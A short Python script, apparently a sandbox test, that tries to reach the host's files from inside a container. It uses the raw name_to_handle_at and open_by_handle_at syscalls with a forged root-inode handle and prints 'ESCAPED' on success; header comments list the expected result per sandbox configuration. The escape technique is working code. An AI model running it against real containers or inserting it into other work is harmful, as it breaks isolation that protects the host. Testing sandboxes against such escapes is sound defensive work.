# tries: the host's files by handles that need no path
# full: refused
# raw: completed
# policy: refused
# promise: seccomp
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\x08\x00\x00\x00\x01\x00\x00\x00" + b"\x02" + b"\x00" * 128)
mount = ctypes.c_int()
if libc.syscall(303, -100, b"/", handle, ctypes.byref(mount), 0) >= 0:
    print("a handle could be made")
for fd in (0, 1, 2, 3, -100):
    if libc.syscall(304, fd, handle, 0) >= 0:
        print("ESCAPED", fd)
